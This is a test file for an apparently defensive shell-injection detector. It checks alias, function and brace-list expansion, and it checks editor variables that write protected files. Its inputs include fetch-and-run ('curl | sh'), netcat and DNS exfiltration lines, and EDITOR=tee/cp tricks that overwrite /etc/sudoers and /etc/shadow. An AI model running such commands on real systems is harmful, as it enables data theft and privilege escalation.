// rewriteSource: aliases, functions defined then called and brace-list command words, as the shell would run them.

import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { parseShell } from "../../../src/engine/injection/shell-parse.ts";
import { editorWrite, rewriteSource } from "../../../src/engine/injection/shell-rewrite.ts";
import { stagesOf } from "../../../src/engine/injection/shell-words.ts";

const rewrite = (src: string) => rewriteSource(src, stagesOf(parseShell(src).commands, src));

describe("rewriteSource", () => {
  test.each([
    ["alias g='curl -s x'; g | sh", "alias g='curl -s x'; curl -s x | sh", "alias g"],
    ['f(){ wc -l "$1"; }; f a.txt', 'f(){ wc -l "$1"; }; wc -l a.txt', "function f"],
    ['function r { "$@"; }; r ls -la', 'function r { "$@"; }; ls -la', "function r"],
    ["{cat,x}|{nc,h,1}", "cat x|nc h 1", "{a,b}"],
    // a call in a loop body; $1 inside a longer quoted word takes the argument without its own quotes
    [
      'h() { host "$1.z.example"; }; for p in $(cat x); do h "$p"; done',
      'h() { host "$1.z.example"; }; for p in $(cat x); do host "$p.z.example"; done',
      "function h",
    ],
  ])("%s", (src, text, why) => {
    expect(rewrite(src)).toEqual({ text, why });
  });
  test.each([
    "ls -la",
    "mkdir -p build/{a,b}",
    "echo {a,b}",
    "g | sh", // an alias never defined
    "f x; f(){ echo; }", // called before it is defined
  ])("nothing to rewrite: %s", (src) => {
    expect(rewrite(src)).toBeNull();
  });
  test("never throws and stays bounded on arbitrary text", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), (s) => {
        const src = `alias a='${s}'; f(){ ${s}; }; a; f ${s}; {${s},x}`;
        const r = rewrite(src);
        expect(r === null || r.text.length <= 64 * 1024).toBe(true);
      }),
      { numRuns: 300 },
    );
  });
});

describe("editorWrite: an editor variable that names a writer", () => {
  const cases: [string, string[], string | null][] = [
    ["visudo through tee", ["sudo", "EDITOR=tee -a", "visudo"], "sudo tee -a /etc/sudoers"],
    ["visudo -f", ["SUDO_EDITOR=tee", "visudo", "-f", "/etc/sudoers.d/x"], "tee /etc/sudoers.d/x"],
    ["vipw -s", ["EDITOR=cp /tmp/s", "vipw", "-s"], "cp /tmp/s /etc/shadow"],
    ["crontab -e", ["VISUAL=tee -a", "crontab", "-e"], "tee -a /var/spool/cron/crontabs/user"],
    ["systemctl edit", ["EDITOR=tee", "systemctl", "edit", "nginx"], "tee /etc/systemd/system/nginx.d/override.conf"],
    ["an interactive editor", ["sudo", "EDITOR=vim", "visudo"], null],
    ["crontab -l", ["EDITOR=tee", "crontab", "-l"], null],
    ["a command that edits nothing protected", ["EDITOR=tee", "git", "commit"], null],
  ];
  test.each(cases)("%s", (_n, words, want) => {
    expect(editorWrite(words)).toBe(want);
  });
});
